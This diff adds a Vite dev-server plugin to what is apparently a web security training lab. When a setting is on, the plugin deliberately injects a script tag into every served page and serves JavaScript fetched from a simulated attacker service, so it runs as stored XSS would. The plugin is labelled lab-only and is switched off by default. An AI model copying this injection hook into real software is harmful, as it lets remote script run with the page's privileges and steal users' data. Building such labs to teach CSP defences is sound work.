@@ -1,0 +1,57 @@
+import type { Plugin } from 'vite';
+import type { SpaSettings } from './lab-settings.ts';
+import { pathOf, sendJson } from './http-json.ts';
+
+const HOOK_PREFIX = '/@lab-xss/';
+
+/**
+ * LAB-ONLY VULNERABILITY SWITCH: a stand-in for an XSS bug in the app. No real app has this.
+ *
+ * While `settings.xss` names a payload, every `index.html` the app serves gets
+ * `<script type="module" src="/@lab-xss/<name>.js">`, and that path serves the attacker's script
+ * (fetched from the attacker service at `/payloads/<name>.js`). The script comes from the app's
+ * own origin, as a stored XSS would, so `script-src 'self'` does not stop it and it runs with the
+ * page's full privileges. What the CSP still does is limit where it can send what it reads
+ * (`connect-src`, `img-src`): weaken `spa-csp` and the loot reaches the attacker.
+ *
+ * With `settings.xss` null (the default) nothing is injected and `/@lab-xss/*` answers 404.
+ */
+export function xssHookPlugin(settings: SpaSettings, attackerUrl: string): Plugin {
+  return {
+    name: 'lab:xss-hook',
+    configureServer(server) {
+      server.middlewares.use(function serveInjectedPayload(req, res, next) {
+        const path = pathOf(req);
+        if (!path.startsWith(HOOK_PREFIX)) return next();
+        const name = settings.xss;
+        if (name === null || path !== `${HOOK_PREFIX}${name}.js`) {
+          return sendJson(res, 404, { error: 'not_found', message: `Nothing at ${req.method} ${path}: no such XSS payload is switched on.` });
+        }
+        fetchPayload(attackerUrl, name).then(
+          (script) => {
+            res.statusCode = 200;
+            res.setHeader('Content-Type', 'text/javascript; charset=utf-8');
+            res.setHeader('Cache-Control', 'no-store');
+            res.end(script);
+          },
+          (error: unknown) => {
+            server.config.logger.warn(`spa: XSS hook: ${error instanceof Error ? error.message : String(error)}`);
+            sendJson(res, 502, { error: 'attacker_unreachable', message: `The XSS hook could not fetch the "${name}" payload from the attacker at ${attackerUrl}. Is it running?` });
+          },
+        );
+      });
+    },
+    // In the dev server this runs on every request for a page, so switching `xss` applies to the next load.
+    transformIndexHtml() {
+      if (settings.xss === null) return undefined;
+      return [{ tag: 'script', attrs: { type: 'module', src: `${HOOK_PREFIX}${settings.xss}.js` }, injectTo: 'head' }];
+    },
+  };
+}
+
+async function fetchPayload(attackerUrl: string, name: string): Promise<string> {
+  const url = `${attackerUrl}/payloads/${name}.js`;
+  const response = await fetch(url, { signal: AbortSignal.timeout(5_000) });
+  if (!response.ok) throw new Error(`GET ${url} answered ${response.status}`);
+  return response.text();
+}
